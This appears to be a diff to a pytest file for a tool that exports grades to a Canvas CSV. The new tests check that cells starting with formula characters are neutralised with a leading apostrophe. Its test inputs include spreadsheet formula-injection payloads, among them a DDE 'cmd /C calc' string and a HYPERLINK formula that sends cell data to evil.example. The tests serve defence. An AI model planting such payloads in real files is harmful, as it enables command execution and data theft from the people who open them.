@@ -38,15 +38,15 @@ def book(*rows: str, header: str = HEADER) -> Gradebook:
 
 def verdict(student: str, score: float = 8.5, **more: Any) -> Verdict:
     fields = {"name": NAMES.get(student, "?"), "status": Standing.GRADED} | more
-    return Verdict(student=student, assignment="cnn", score=score, possible=10, isolation="A",
-                   seconds=1, questions={}, **fields)  # fmt: skip
+    return Verdict(student=student, assignment="cnn", score=score, possible=10,
+                   seconds=1, questions={}, **{"isolation": "A", **fields})  # fmt: skip
 
 
 def rows_of(data: bytes) -> list[list[str]]:
     return list(csv.reader(io.StringIO(data.decode())))
 
 
-def test_the_file_holds_identity_verbatim_the_points_and_one_row_for_each_grade() -> None:
+def test_the_file_holds_identity_the_points_and_one_row_for_each_grade() -> None:
     gradebook = book()
     data = export(
         gradebook, changes(gradebook, "12", [verdict("102"), verdict("101", 10)], MANIFEST)
@@ -55,7 +55,7 @@ def test_the_file_holds_identity_verbatim_the_points_and_one_row_for_each_grade(
         ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "CNNs (12)"],
         ["    Points Possible", "", "", "", "", "10.00"],
         ["Lovelace, Ada", "101", "0123456", "ada", "S1 and S2", "10"],
-        ['=" =SUM(1)"', "102", "", "bob", "S1", "8.5"],
+        ['\'=" =SUM(1)"', "102", "", "bob", "S1", "8.5"],
     ]
     assert not data.startswith(b"\xef\xbb\xbf") and b"\r" not in data and data.endswith(b"\n")
 
@@ -122,7 +122,7 @@ def test_differing_points_late_students_and_high_scores_are_warned_of() -> None:
     assert "worth 10.00" in said and "worth 12" in said
     assert "Above the points possible in Canvas: Lovelace, Ada." in said
     assert "late policy: Lovelace, Ada." in said
-    assert "formula" in said and "SUM" in said
+    assert "formula have an apostrophe in front in the file:  =SUM(1)." in said
 
 
 def test_a_plain_class_is_warned_of_nothing() -> None:
@@ -226,7 +226,49 @@ def test_whatever_the_name_canvas_reads_the_grade_that_was_meant(name: str, scor
         gradebook, changes(gradebook, "12", [verdict("101", score, name=known)], MANIFEST)
     )
     assert imported(data).grades == {101: {"12": grade_text(score)}}
-    assert rows_of(data)[1][0] == name
+    assert rows_of(data)[1][0] in {name, f"'{name}"}
+    assert not re.match(r"\s*[=+\-@]|[\t\r\n]", rows_of(data)[1][0])
+
+
+@pytest.mark.parametrize(
+    "evil",
+    ["=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", " =1+1", '="x"&cmd|\'/C calc\'!A0', "＝1+1",
+     '=HYPERLINK("http://evil.example/?"&B2)', "-", "+49 170"],
+)  # fmt: skip
+def test_no_text_column_holds_a_formula_and_ids_and_grades_stay_numbers(evil: str) -> None:
+    out = io.StringIO(newline="")
+    header = ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "CNNs (12)"]
+    csv.writer(out).writerows([header, [evil, "101", f"{evil}x", evil, evil, "-"]])
+    gradebook = parse(out.getvalue().encode())
+    name = gradebook.students[0].name
+    plan = changes(gradebook, "12", [verdict("101", 7.5, name=name)], MANIFEST)
+    data = export(gradebook, plan)
+    assert rows_of(data)[1] == [f"'{evil}", "101", f"'{evil}x", f"'{evil}", f"'{evil}", "7.5"]
+    assert imported(data).grades == {101: {"12": "7.5"}}
+    assert any("apostrophe" in warning for warning in plan.warnings)
+
+
+def test_grades_given_without_isolation_need_a_second_confirmation() -> None:
+    graded = [verdict("101", isolation="0"), verdict("102")]
+    with pytest.raises(ExportError, match=r"Lovelace, Ada \(101\).*--confirm-unsealed") as caught:
+        changes(book(), "12", graded, MANIFEST)
+    assert "102" not in str(caught.value)
+    plan = changes(book(), "12", graded, MANIFEST, confirm_unsealed=True)
+    assert [row.student.id for row in plan.rows] == ["101", "102"]
+    assert "1 of these grades were given at isolation level 0." in plan.warnings
+
+
+def test_an_unsealed_verdict_that_is_not_written_needs_no_confirmation() -> None:
+    excused = verdict("103", isolation="0")
+    unreadable = verdict("101", 0, isolation="0", status=Standing.UNREADABLE)
+    assert changes(book(), "12", [excused, unreadable, verdict("102")], MANIFEST).rows
+    assert changes(book(), "12", [verdict("101", isolation="0")], MANIFEST, leave_out=["101"])
+
+
+@pytest.mark.parametrize("level", ["A-", "B"])
+def test_less_than_full_isolation_is_warned_of(level: str) -> None:
+    (warning,) = changes(book(), "12", [verdict("101", isolation=level)], MANIFEST).warnings
+    assert warning == f"1 of these grades were given at isolation level {level}."
 
 
 def test_the_file_is_written_whole_or_not_at_all(tmp_path: Path) -> None:
